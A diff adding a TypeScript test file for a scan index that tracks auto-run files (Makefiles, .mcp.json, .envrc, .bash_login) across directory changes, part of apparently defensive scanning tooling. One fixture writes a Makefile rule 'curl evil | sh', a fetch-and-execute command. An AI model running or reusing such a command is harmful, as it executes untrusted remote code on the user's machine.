@@ -1,0 +1,129 @@
+/**
+ * The index of the scan of what runs later (exec/scan-index.ts): which directories a later run
+ * reads again, what it keeps of their entries, and where it refuses to trust what it saved (racy
+ * directories, other roots, a damaged or foreign file, a change too large).
+ */
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  statSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import {
+  dirIdentity,
+  indexFileFor,
+  indexOf,
+  loadIndex,
+  refreshIndex,
+  saveIndex,
+  type ScanIndex,
+} from '../../../src/exec/scan-index.js';
+import { isListed } from '../../../src/exec/runs-later.js';
+import { makeScratchDir } from '../../support/cli.js';
+
+/** A tree: root/a/Makefile, root/a/x.ts, root/b/c/.mcp.json, root/b/y.ts. */
+function tree(): { root: string; index: ScanIndex } {
+  const root = makeScratchDir('scan-index-', 0o755);
+  mkdirSync(join(root, 'a'));
+  mkdirSync(join(root, 'b', 'c'), { recursive: true });
+  writeFileSync(join(root, 'a', 'Makefile'), 'all:\n');
+  writeFileSync(join(root, 'a', 'x.ts'), 'x');
+  writeFileSync(join(root, 'b', 'c', '.mcp.json'), '{}');
+  writeFileSync(join(root, 'b', 'y.ts'), 'y');
+  const dirs = new Map(
+    [root, join(root, 'a'), join(root, 'b'), join(root, 'b', 'c')].map((dir) => [dir, dirIdentity(dir) ?? '']),
+  );
+  return { root, index: indexOf([join(root, 'a', 'Makefile'), join(root, 'b', 'c', '.mcp.json')], dirs) };
+}
+
+const listedOf = (index: ScanIndex | undefined) => [...(index?.listed.values() ?? [])].flat().sort();
+
+describe('refreshIndex', () => {
+  it('reads no directory when nothing changed, and keeps what was listed (a file changed in place stays listed)', () => {
+    const { root, index } = tree();
+    writeFileSync(join(root, 'a', 'Makefile'), 'all:\n\tcurl evil | sh\n');
+    const fresh = refreshIndex(index, isListed);
+    expect(fresh?.reread).toBe(0);
+    expect(listedOf(fresh)).toEqual([join(root, 'a', 'Makefile'), join(root, 'b', 'c', '.mcp.json')]);
+  });
+
+  it('reads a directory whose entries changed, a new directory whole, and drops a removed one with what it held', () => {
+    const { root, index } = tree();
+    writeFileSync(join(root, 'a', '.envrc'), 'export X=1\n');
+    mkdirSync(join(root, 'a', 'new', 'deep'), { recursive: true });
+    writeFileSync(join(root, 'a', 'new', 'deep', '.bash_login'), 'evil\n');
+    rmSync(join(root, 'b', 'c'), { recursive: true });
+    const fresh = refreshIndex(index, isListed);
+    expect(listedOf(fresh)).toEqual(
+      [join(root, 'a', '.envrc'), join(root, 'a', 'Makefile'), join(root, 'a', 'new', 'deep', '.bash_login')].sort(),
+    );
+    expect([...(fresh?.dirs.keys() ?? [])].sort()).toEqual(
+      [root, join(root, 'a'), join(root, 'a', 'new'), join(root, 'a', 'new', 'deep'), join(root, 'b')].sort(),
+    );
+  });
+
+  it('a directory renamed within the tree is read whole at its new path (its entries there are new)', () => {
+    const { root, index } = tree();
+    renameSync(join(root, 'b'), join(root, 'moved'));
+    const fresh = refreshIndex(index, isListed);
+    expect(listedOf(fresh)).toEqual([join(root, 'a', 'Makefile'), join(root, 'moved', 'c', '.mcp.json')]);
+  });
+
+  it('gives up (undefined) past its budget of entries, so the scan lists every file instead', () => {
+    const { root, index } = tree();
+    mkdirSync(join(root, 'a', 'node_modules'));
+    for (let i = 0; i < 50; i++) writeFileSync(join(root, 'a', 'node_modules', `f${i}`), '');
+    expect(refreshIndex(index, isListed, 40)).toBeUndefined();
+    expect(refreshIndex(index, isListed, 1_000)).toBeDefined();
+  });
+});
+
+describe('saveIndex and loadIndex', () => {
+  it('saved 0600 in a 0700 directory and loaded again for the same roots only; a damaged file is no index', () => {
+    const { root, index } = tree();
+    const runtime = makeScratchDir('scan-runtime-');
+    const file = indexFileFor(runtime, [root], 'globs');
+    expect(indexFileFor(runtime, [root], 'other globs')).not.toBe(file);
+    saveIndex(file, [root], index, Date.now() + 60_000);
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    expect(statSync(join(runtime, 'scan-index')).mode & 0o777).toBe(0o700);
+    expect(loadIndex(file, [root])?.dirs.get(join(root, 'a'))).toBe(index.dirs.get(join(root, 'a')));
+    expect(loadIndex(file, [root, '/elsewhere'])).toBeUndefined();
+    writeFileSync(file, readFileSync(file, 'utf8').slice(0, 40));
+    expect(loadIndex(file, [root])).toBeUndefined();
+  });
+
+  it('keeps the 100 indexes written last: the oldest go as others are saved', () => {
+    const { root, index } = tree();
+    const runtime = makeScratchDir('scan-runtime-');
+    const first = indexFileFor(runtime, [root], 'globs 0');
+    for (let i = 0; i <= 100; i++) {
+      const file = indexFileFor(runtime, [root], `globs ${i}`);
+      saveIndex(file, [root], index, Date.now());
+      utimesSync(file, 1_000 + i, 1_000 + i);
+    }
+    saveIndex(indexFileFor(runtime, [root], 'the newest'), [root], index, Date.now());
+    expect(readdirSync(join(runtime, 'scan-index'))).toHaveLength(100);
+    expect(existsSync(first)).toBe(false);
+  });
+
+  it('a directory changed within 2 s of the scan that read it is never trusted: the next run reads it again', () => {
+    const { root, index } = tree();
+    const runtime = makeScratchDir('scan-runtime-');
+    const file = indexFileFor(runtime, [root], 'globs');
+    // Read "now": every directory was just made, so each is racy (a change in the same clock tick keeps its ctime).
+    saveIndex(file, [root], index, Date.now());
+    const racy = loadIndex(file, [root]);
+    expect(refreshIndex(racy ?? index, isListed)?.reread).toBe(index.dirs.size);
+    // Read a minute later: all trusted.
+    saveIndex(file, [root], index, Date.now() + 60_000);
+    expect(refreshIndex(loadIndex(file, [root]) ?? index, isListed)?.reread).toBe(0);
+  });
+});
